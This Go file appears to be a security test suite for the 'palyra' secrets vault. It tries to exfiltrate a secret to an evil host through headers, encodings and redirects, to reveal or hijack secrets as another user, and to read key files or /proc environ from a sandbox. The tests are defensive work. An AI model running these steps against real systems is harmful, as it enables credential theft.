//go:build linux

package attack

import (
	"encoding/base64"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strings"

	"palyra/internal/core/must"
)

// vaultAttack is an attack on the secrets of a vault. Both functions return the attacker's
// result; the control makes the same attempt without the protection.
type vaultAttack struct {
	id, variant     string
	attack, control func(v *vaultWorld) string
}

// vaultRows are SEC-05 to SEC-08: attempts by calls, hosts, other members and programs to
// extract a secret from the vault.
func vaultRows() []row {
	var rows []row
	for _, a := range vaultAttacks() {
		rows = append(rows, row{id: a.id, variant: a.variant, source: "secrets in a vault"})
	}
	return rows
}

func vaultAttacks() []vaultAttack {
	return append(append(append(placedAttacks(), reflectedAttacks()...), othersAttacks()...), insideAttacks()...)
}

// placedAttacks are SEC-05: a call uses the secret in a place that its rules do not allow. In
// the control the call has the value itself instead of a placeholder.
func placedAttacks() []vaultAttack {
	var list []vaultAttack
	add := func(variant string, call func(v *vaultWorld, secret string) string) {
		list = append(list, vaultAttack{"SEC-05", variant,
			func(v *vaultWorld) string { return v.sent(call(v, placed) + v.taken()) }, func(v *vaultWorld) string { return call(v, v.value) }})
	}
	base := func(text string) string { return base64.StdEncoding.EncodeToString([]byte(text)) }
	add("placeholder in the query", func(v *vaultWorld, s string) string { return v.fetch(v.good.URL + "/?t=" + s) })
	add("placeholder in the path", func(v *vaultWorld, s string) string { return v.fetch(v.good.URL + "/" + s + "/x") })
	add("placeholder in the query, escaped", func(v *vaultWorld, s string) string {
		return v.fetch(v.good.URL+"/?t="+strings.ReplaceAll(s, "-", "%2d")) + strings.ReplaceAll(v.taken(), "%2d", "-")
	})
	body := func(v *vaultWorld, text string) string { return v.fetch(v.good.URL+"/", "method=POST", "body="+text) }
	add("placeholder in the body", func(v *vaultWorld, s string) string { return body(v, "t="+s) })
	add("placeholder in base64 in the body", func(v *vaultWorld, s string) string { return body(v, base(s)) })
	add("placeholder in base64 of base64", func(v *vaultWorld, s string) string { return body(v, base(base(s))) })
	add("placeholder in another header", func(v *vaultWorld, s string) string { return v.fetch(v.good.URL+"/", header("x-api-key", s)) })
	add("placeholder in a header of no credential", func(v *vaultWorld, s string) string { return v.fetch(v.good.URL+"/", header("user-agent", s)) })
	add("placeholder to another port of the host", func(v *vaultWorld, s string) string {
		return v.fetch(v.evil.URL+"/", header("authorization", "Bearer "+s))
	})
	add("placeholder over plain HTTP", func(v *vaultWorld, s string) string {
		return v.fetch(v.plain.URL+"/", header("authorization", "Bearer "+s))
	})
	add("placeholder in other letters, to another host", func(v *vaultWorld, s string) string {
		return v.fetch(v.evil.URL+"/", header("authorization", "Bearer "+strings.ToUpper(s[:6])+s[6:])) + strings.ReplaceAll(v.taken(), strings.ToUpper(s[:6]), s[:6])
	})
	return append(list,
		vaultAttack{"SEC-05", "redirect that carries the header on",
			func(v *vaultWorld) string {
				return v.fetch(v.good.URL+"/carry", header("authorization", "Bearer "+placed))
			},
			func(v *vaultWorld) string { return v.fetch(v.good.URL+"/carry", header("user-agent", v.value)) }},
		vaultAttack{"SEC-05", "redirect that tells the value",
			func(v *vaultWorld) string {
				return v.fetch(v.good.URL+"/tell", header("authorization", "Bearer "+placed))
			},
			// The vault no longer contains the value.
			func(v *vaultWorld) string { return v.forgotten("/tell") }})
}

// forgotten sends the value itself after the vault has deleted it.
func (v *vaultWorld) forgotten(path string) string {
	v.palyra("vault", "rm", "global/api", "--yes")
	v.palyra("vault", "rm", "user:local/mine", "--yes")
	return v.fetch(v.good.URL+path, header("authorization", "Bearer "+v.value))
}

// reflectedAttacks are SEC-06 and GW2-70: the host returns the value.
func reflectedAttacks() []vaultAttack {
	var list []vaultAttack
	for _, form := range []struct{ id, variant, path string }{
		{"SEC-06", "as it is", "/text"}, {"SEC-06", "in base64", "/base64"}, {"SEC-06", "in base64 of base64", "/base64-twice"},
		{"SEC-06", "in hexadecimal", "/hex"}, {"SEC-06", "percent-encoded", "/percent"}, {"SEC-06", "in pieces of a byte", "/pieces"},
		{"SEC-06", "in a header", "/header"}, {"SEC-06", "in the status line", "/status"},
		{"GW2-70", "in base32", "/base32"}, {"GW2-70", "in base64 with separators", "/base64-separated"},
		{"GW2-70", "in hexadecimal with separators", "/hex-separated"},
		{"GW2-70", "as a dump of hexdump", "/hexdump"}, {"GW2-70", "as a dump of xxd", "/xxd"},
	} {
		list = append(list, vaultAttack{form.id, "value reflected " + form.variant,
			func(v *vaultWorld) string {
				told := v.fetch(v.good.URL+form.path, header("authorization", "Bearer "+placed))
				if !strings.Contains(v.give(), v.value) {
					v.T.Errorf("the secret did not arrive where it belongs: %s", told)
				}
				return told
			},
			func(v *vaultWorld) string { return v.forgotten(form.path) }})
	}
	return list
}

// othersAttacks are SEC-07: secrets of other members, and weak credentials. Control: the user
// local, who has the permission.
func othersAttacks() []vaultAttack {
	use := func(secret string) []string { return []string{header("authorization", "Bearer "+secret)} }
	// reached returns a text with the value if the effect was reached.
	reached := func(v *vaultWorld, yes bool, told string) string {
		if yes {
			return told + v.value
		}
		return told
	}
	revealed := func(v *vaultWorld) string { return output(v.palyra("vault", "get", "global/api", "--reveal")) }
	list := []vaultAttack{
		{"SEC-07", "secret of another user, named in a call",
			func(v *vaultWorld) string {
				return v.as("bob", append([]string{"call", "http.fetch", "url=" + v.good.URL + "/"}, use(mine)...)...) + v.give()
			},
			func(v *vaultWorld) string { return v.fetch(v.good.URL+"/", use(mine)...) + v.give() }},
		{"SEC-07", "secrets of another user, listed",
			func(v *vaultWorld) string {
				told := v.as("bob", "call", "secrets.list")
				return reached(v, strings.Contains(told, mine), told)
			},
			func(v *vaultWorld) string {
				told := output(v.palyra("call", "secrets.list"))
				return reached(v, strings.Contains(told, mine), told)
			}},
		{"SEC-07", "secret that was removed",
			func(v *vaultWorld) string {
				v.keep("global/gone", "--host", at(v.good))
				v.palyra("vault", "rm", "global/gone", "--yes")
				return v.fetch(v.good.URL+"/", use("palyra-sec-global~gone")...) + v.give()
			},
			func(v *vaultWorld) string {
				v.keep("global/gone", "--host", at(v.good))
				return v.fetch(v.good.URL+"/", use("palyra-sec-global~gone")...) + v.give()
			}},
		{"SEC-07", "secret revealed to a token",
			func(v *vaultWorld) string {
				v.token("tool.call")
				return v.as("token", "vault", "get", "global/api", "--reveal")
			}, revealed},
	}
	for _, a := range []struct {
		variant string
		args    []string
	}{
		{"value revealed to an operator", []string{"vault", "get", "global/api", "--reveal"}},
		{"value of another user revealed to an operator", []string{"vault", "get", "user:local/mine", "--reveal"}},
	} {
		list = append(list, vaultAttack{"SEC-07", a.variant,
			func(v *vaultWorld) string { return v.as("bob", a.args...) }, func(v *vaultWorld) string { return output(v.palyra(a.args...)) }})
	}
	for _, a := range []struct {
		variant string
		args    []string
		// reached reports whether the attack had its effect.
		reached func(v *vaultWorld) bool
	}{
		{"value replaced by an operator", []string{"vault", "put", "global/api"}, func(v *vaultWorld) bool { return strings.Contains(revealed(v), "hijacked") }},
		{"hosts added by an operator", []string{"vault", "edit", "global/api", "--host", "evil.example:443"}, func(v *vaultWorld) bool {
			return strings.Contains(output(v.palyra("vault", "show", "global/api")), "evil.example")
		}},
		{"secret removed by an operator", []string{"vault", "rm", "global/api", "--yes"}, func(v *vaultWorld) bool { return !v.holds(revealed(v)) }},
		{"keys exported by an operator", []string{"vault", "export-recovery", "--recipient", "age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p", "--out", "exported"}, func(v *vaultWorld) bool {
			_, err := os.Stat(filepath.Join(v.Dir, "exported"))
			return err == nil
		}},
	} {
		list = append(list, vaultAttack{"SEC-07", a.variant,
			func(v *vaultWorld) string {
				told := v.as("bob", inDir(v, a.args)...)
				return reached(v, a.reached(v), told)
			},
			func(v *vaultWorld) string {
				told := v.as("state/operator", inDir(v, a.args)...)
				return reached(v, a.reached(v), told)
			}})
	}
	return list
}

// inDir replaces file names in the arguments by paths in the gateway's directory.
func inDir(v *vaultWorld, args []string) []string {
	list := slices.Clone(args)
	for i, arg := range list {
		if arg == "exported" {
			list[i] = filepath.Join(v.Dir, arg)
		}
	}
	return list
}

// insideAttacks are SEC-08: programs in the sandbox, and links in the workspace. The control
// runs the same program without a sandbox.
func insideAttacks() []vaultAttack {
	var list []vaultAttack
	add := func(variant string, argv func(v *vaultWorld) []string) {
		list = append(list, vaultAttack{"SEC-08", variant,
			func(v *vaultWorld) string { return output(v.run(argv(v)...)) }, func(v *vaultWorld) string { return v.bare(argv(v)...) }})
	}
	cat := func(path func(v *vaultWorld) string) func(v *vaultWorld) []string {
		return func(v *vaultWorld) []string { return []string{"cat", path(v)} }
	}
	for _, name := range []string{"vault.kek", "vault.json"} {
		add(name+" by its path", cat(func(v *vaultWorld) string { return filepath.Join(v.State, name) }))
	}
	add("vault.kek by a link of the workspace", cat(func(v *vaultWorld) string { v.link(); return "state/vault.kek" }))
	// An ordinary user's processes cannot read palyrad, so the control reads another process of
	// that user.
	within := func(variant, format string) {
		list = append(list, vaultAttack{"SEC-08", variant,
			func(v *vaultWorld) string {
				return output(v.run("cat", fmt.Sprintf(format, v.Cmd.Process.Pid, v.State)))
			},
			func(v *vaultWorld) string { return v.bare("cat", fmt.Sprintf(format, neighbor(v.T, v.Env), v.State)) }})
	}
	within("vault.kek by palyrad's root", "/proc/%d/root%s/vault.kek")
	within("environment of palyrad", "/proc/%d/environ%.0s")
	connect := func(v *vaultWorld, address string) []string {
		v.file("connect.py", "import socket, sys\ns = socket.socket(socket.AF_UNIX)\ns.connect(sys.argv[1].replace('@', '\\0'))\nprint(sys.argv[2])\n")
		// If the argument contained the value, an error message would show it.
		return []string{"python3", "connect.py", address, `"kek_reached`}
	}
	add("bus of the session's keyring", func(v *vaultWorld) []string {
		_, path, _ := strings.Cut(v.Env[len(v.Env)-1], "unix:path=")
		path, _, _ = strings.Cut(path, ",")
		return connect(v, path)
	})
	add("bus at an abstract address", func(v *vaultWorld) []string {
		name := "@" + filepath.Base(v.Dir)
		if l, err := net.Listen("unix", name); err == nil {
			v.T.Cleanup(func() { must.Check(v.T, l.Close()) })
		}
		return connect(v, name)
	})
	list = append(list, vaultAttack{"SEC-08", "vault.kek by fs.read through a link",
		func(v *vaultWorld) string {
			v.link()
			return output(v.palyra("call", "fs.read", "path=state/vault.kek"))
		},
		func(v *vaultWorld) string { return v.bare("cat", "state/vault.kek") }})
	// A program receives only the placeholder, whatever other variables the call sets.
	variable := func(v *vaultWorld, more ...string) string {
		v.file("environment.py", "import os\nprint(dict(os.environ))\n")
		return output(v.palyra(append([]string{"call", "process.run", `argv=["python3","environment.py"]`}, more...)...))
	}
	known := func(v *vaultWorld) string {
		v.palyra("vault", "rm", "global/api", "--yes")
		v.palyra("vault", "rm", "user:local/mine", "--yes")
		return variable(v, fmt.Sprintf(`env={"API_TOKEN":%q}`, v.value))
	}
	return append(list,
		vaultAttack{"SEC-08", "variable of the secret", func(v *vaultWorld) string { return variable(v) }, known},
		vaultAttack{"SEC-08", "variable of the secret, set by the call", func(v *vaultWorld) string { return variable(v, `env={"API_TOKEN":"other"}`) }, known})
}
